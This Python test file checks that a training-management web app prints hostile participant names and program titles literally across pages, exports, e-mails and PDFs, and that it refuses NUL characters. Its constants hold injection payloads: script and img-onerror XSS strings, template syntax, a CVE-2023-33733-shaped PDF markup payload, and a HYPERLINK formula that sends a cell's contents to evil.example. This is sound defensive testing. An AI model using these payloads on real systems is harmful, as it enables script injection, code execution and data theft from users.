"""Hostile names and titles come out as literal text in every sink: every page (walked from the URL map), JSON in
pages, e-mails, CSV and XLSX exports, calendar files and PDFs."""
import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from extensions import db
from tests.conftest import csrf_from, login
from tests.helpers import enter, link_for
from training.models import Activity, Delegation, OutboundMessage, Participant, Program
from training.models_groups import Group
from training.textkeys import person_search_key

SCRIPT = '</script><script>alert("given")</script>'
IMAGE = "<img src=x onerror=alert(1)>"
TEMPLATE = "{{ 7*7 }}{% if 1 %}"  # Jinja never evaluates data: it prints as typed
MARKUP = "<font color=\"[[[getattr(pow, Word('__globals__'))]]]\">x</font>"  # CVE-2023-33733's shape
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"pulse aquí")'
TITLE = f"{IMAGE} Taller {TEMPLATE} {MARKUP}"
RAW_HTML = ("<script>alert(", "<img src=x", "<font color=", "</script><script>")  # never in an HTML page
# Values for the URL map's variables: the `world` fixture's objects, and a page kind or file format where asked.
ARGUMENTS = {"program_id": "program", "participant_id": "mx1", "delegation_id": "observer", "user_id": "organizer",
             "activity_id": "activity", "batch_id": "batch", "group_id": "group", "questionnaire_id": "questionnaire",
             "section_id": "section", "question_id": "question", "certificate_id": "certificate"}
NOT_PAGES = {"static", "/assets/", "/logout", "/p/<token>", "/verify/<code>"}  # files, a POST, tested below


@pytest.fixture
def hostile(app, course):
    """The course with a hostile program title, participant, session, observer organization and group name."""
    ids = course["ids"]
    with app.app_context():
        program = db.session.get(Program, ids["program"])
        program.title = {"es": TITLE, "en": TITLE}
        person = db.session.get(Participant, ids["mx1"])
        person.given_names, person.family_names = SCRIPT, FORMULA
        person.search_key = person_search_key(SCRIPT, FORMULA, person.email)
        db.session.get(Activity, ids["activity"]).title = {"es": SCRIPT + " sesión", "en": SCRIPT + " session"}
        db.session.get(Delegation, ids["observer"]).organization = FORMULA
        db.session.get(Group, ids["group"]).name = IMAGE
        db.session.commit()
    return course


def get_urls(app, ids):
    """Every GET route of the app with the world's objects in it (both formats where a route offers two)."""
    adapter = app.url_map.bind("localhost")
    for rule in sorted(app.url_map.iter_rules(), key=lambda r: r.rule):
        if "GET" not in rule.methods or any(part in rule.rule for part in NOT_PAGES):
            continue
        values = {name: ids[key] for name, key in ARGUMENTS.items() if name in rule.arguments}
        if "item_id" in rule.arguments:
            values["item_id"] = ids["group_item" if "/groups" in rule.rule else "agenda_item"]
        if "import_id" in rule.arguments:
            values["import_id"] = ids["response_import" if "response-imports" in rule.rule else "report"]
        if "kind" in rule.arguments:
            values["kind"] = "post"
        if "name" in rule.arguments:
            values["name"] = "scores"
        if "chart" in rule.arguments:
            values["chart"] = "items"
        formats = ("csv", "xlsx", "png", "svg") if "file_format" in rule.arguments else (None,)
        for file_format in formats:
            try:
                yield adapter.build(rule.endpoint, {**values, **({"file_format": file_format} if file_format else {})})
            except Exception:  # noqa: BLE001 — a format this route does not offer
                continue


def assert_literal(url, response):
    """The response shows the hostile texts only as text of its own kind."""
    kind, body = response.mimetype, response.get_data()
    if kind == "text/html":
        html = body.decode()
        found = [raw for raw in RAW_HTML if raw in html]
        assert not found, f"{url}: raw markup {found} in the page"
        assert "{{ 7*7 }}" in html or "7*7" not in html, f"{url}: a template expression was evaluated"
    elif kind == "text/csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))  # a Spanish program's
        cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
        assert all(cell.startswith("'=") for cell in cells), f"{url}: a live formula in {cells}"
    elif kind.endswith("spreadsheetml.sheet"):
        book = load_workbook(io.BytesIO(body))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row
                 if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
        # A string cell (or an apostrophe-prefixed one) is never evaluated; a formula cell would be type "f".
        assert all(cell.data_type == "s" for cell in cells), \
            f"{url}: a live formula in {[cell.value for cell in cells]}"
    elif kind == "application/json":
        assert b"<script" not in body.lower() and b"<img" not in body.lower(), f"{url}: raw markup in JSON"


def test_every_staff_page_and_file_prints_hostile_texts_literally(app, client, hostile):
    login(client, hostile["emails"]["admin"])
    seen, answered = {}, {}
    for url in get_urls(app, hostile["ids"]):
        response = client.get(url)
        answered[url] = response.status_code
        if response.status_code == 200:
            assert_literal(url, response)
            seen[url] = response
    program = hostile["ids"]["program"]
    participant_pages = ("/me", "/me/agenda.ics", "/me/agenda.pdf", "/me/certificate.pdf", "/me/tests/post",
                         "/me/tests/post/done", "/me/tests/post/review")
    assert {url: code for url, code in answered.items() if code != 200} == {
        "/": 302,  # to the programs
        **{url: 403 for url in participant_pages},  # a staff login is not a participant's session
        # No report file has been made (and a name that is not one of the worker's files is never looked for).
        f"/programs/{program}/impact/files/scores": 404,
        # No organization sign-in is configured (and "scores" would not be one of its providers).
        "/login/oidc/scores": 404, "/login/oidc/scores/callback": 404,
    }
    kinds = {response.mimetype for response in seen.values()}
    assert {"text/html", "text/csv", "text/calendar", "application/pdf"} <= kinds and len(seen) >= 50
    # The escaped text is there, not merely dropped: the title and the name as typed, escaped once.
    page = seen[f"/programs/{program}/participants"].get_data(as_text=True)
    assert "&lt;/script&gt;&lt;script&gt;alert(&#34;given&#34;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt; Taller {{ 7*7 }}{% if 1 %}" in seen[f"/programs/{program}"].text
    attendance = load_workbook(io.BytesIO(seen[f"/programs/{program}/attendance.xlsx"].data)).active
    types = [cell.data_type for row in attendance.iter_rows() for cell in row if cell.value == FORMULA]
    assert types and set(types) == {"s"}  # the family name and the observer organization, as text cells
    people = list(csv.reader(io.StringIO(seen[f"/programs/{program}/participants/export.csv"].text.lstrip("\ufeff")),
                             delimiter=";"))
    assert any(SCRIPT in row and "'" + FORMULA in row for row in people)


def test_pdfs_print_markup_and_formulas_as_typed(app, client, hostile, run_tasks, monkeypatch):
    login(client, hostile["emails"]["admin"])
    ids = hostile["ids"]
    monkeypatch.setattr("assessments.impact.tasks.png_images", lambda figures, **_size: {})  # the title is tested
    monkeypatch.setattr("assessments.impact.tasks.summary_charts", lambda *_args: {})
    impact = f"/programs/{ids['program']}/impact"
    client.post(f"{impact}/summary.pdf/make", data={"csrf_token": csrf_from(client.get(impact).get_data(as_text=True))})
    run_tasks()  # the worker makes the report's PDF; asked again, it is handed over at once
    summary = client.post(f"{impact}/summary.pdf/make",
                          data={"csrf_token": csrf_from(client.get(impact).get_data(as_text=True))})
    report = client.get(summary.headers["Location"])
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(report.data)).pages)
    assert "Taller {{ 7*7 }}" in text and "<font color=" in text
    agenda = client.get(f"/activities/{ids['activity']}/agenda.pdf")
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(agenda.data)).pages)
    assert 'alert("given")' in text and "<script>" in text and "Taller {{ 7*7 }}" in text
    specimen = client.get(f"/programs/{ids['program']}/certificates/specimen.pdf")
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(specimen.data)).pages)
    assert "<font color=" in text and "[[[getattr(pow" in text


def test_certificates_zip_register_and_pdf_keep_the_hostile_name_as_text(app, client, hostile):
    ids = hostile["ids"]
    assert app.test_cli_runner().invoke(args=["issue-certificates", "--program", "TEST-2026"]).exit_code == 0
    login(client, hostile["emails"]["admin"])
    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/programs/{ids['program']}/certificates.zip").data))
    register = next(name for name in archive.namelist() if name.endswith(".csv"))
    rows = list(csv.reader(io.StringIO(archive.read(register).decode("utf-8-sig")), delimiter=";"))
    assert any(SCRIPT in row and "'" + FORMULA in row for row in rows)
    assert all(".." not in name and not name.startswith("/") for name in archive.namelist())
    texts = [PdfReader(io.BytesIO(archive.read(name))).pages[0].extract_text() for name in archive.namelist()
             if name.endswith(".pdf")]
    assert any('alert("given")' in text and "HYPERLINK" in text for text in texts)


def test_invitations_carry_the_hostile_name_as_plain_text(app, client, hostile, run_tasks):
    login(client, hostile["emails"]["admin"])
    program = hostile["ids"]["program"]
    page = client.get(f"/programs/{program}/messages")
    response = client.post(f"/programs/{program}/invitations",
                           data={"csrf_token": csrf_from(page.get_data(as_text=True)), "scope": "all"})
    assert response.status_code == 302
    run_tasks()  # the worker writes the messages
    with app.app_context():
        body = db.session.scalar(select(OutboundMessage.body)
                                 .where(OutboundMessage.participant_id == hostile["ids"]["mx1"]))
    assert SCRIPT in body  # plain text: the reader's mail program shows it as typed
    html = client.get(f"/programs/{program}/messages").get_data(as_text=True)
    assert not [raw for raw in RAW_HTML if raw in html]


def test_participant_pages_print_the_hostile_name_and_titles_literally(app, client, hostile):
    enter(client, link_for(app, hostile["ids"]["mx1"]))
    for url in ("/me", "/me/agenda.ics"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_literal(url, response)
    assert "&lt;/script&gt;&lt;script&gt;alert(&#34;given&#34;)" in client.get("/me").get_data(as_text=True)
    agenda = client.get("/me/agenda.pdf")
    assert 'alert("given")' in PdfReader(io.BytesIO(agenda.data)).pages[0].extract_text()


def test_nul_characters_in_a_query_a_form_or_a_multipart_field_are_refused(app, client, world):
    """PostgreSQL refuses NUL in text: every way a browser sends fields gets a 400 before a view runs."""
    from training.models import User

    login(client, world["emails"]["admin"])
    assert client.get("/programs?q=a%00b").status_code == 400
    token = csrf_from(client.get("/users/new").get_data(as_text=True))
    fields = {"csrf_token": token, "name": "Ana\x00", "email": "ana.nul@example.org", "role": "organizer",
              "language": "es", "active": "y", "country_code": "", "password": "una clave larga"}
    assert client.post("/users/new", data=fields).status_code == 400
    # A field sent twice (a view may keep the last value) and a field's name are checked too.
    fields["name"] = ["Ana", "Ana\x00"]
    assert client.post("/users/new", data=fields).status_code == 400
    fields["name"] = "Ana"
    assert client.post("/users/new", data={**fields, "extra\x00": "x"}).status_code == 400
    upload = client.post(f"/programs/{world['ids']['program']}/participants/import", content_type="multipart/form-data",
                         data={"csrf_token": token, "delegation_id": f"{world['ids']['mx']}\x00",
                               "file": (io.BytesIO(b"Nombre;Correo\nAna;ana@example.org\n"), "lista.csv")})
    assert upload.status_code == 400
    with app.app_context():
        assert db.session.scalar(select(User).where(User.email == "ana.nul@example.org")) is None
    # The same form without the NUL goes through: the refusal was the character's, not the form's.
    fields["name"] = "Ana"
    assert client.post("/users/new", data=fields).status_code == 302
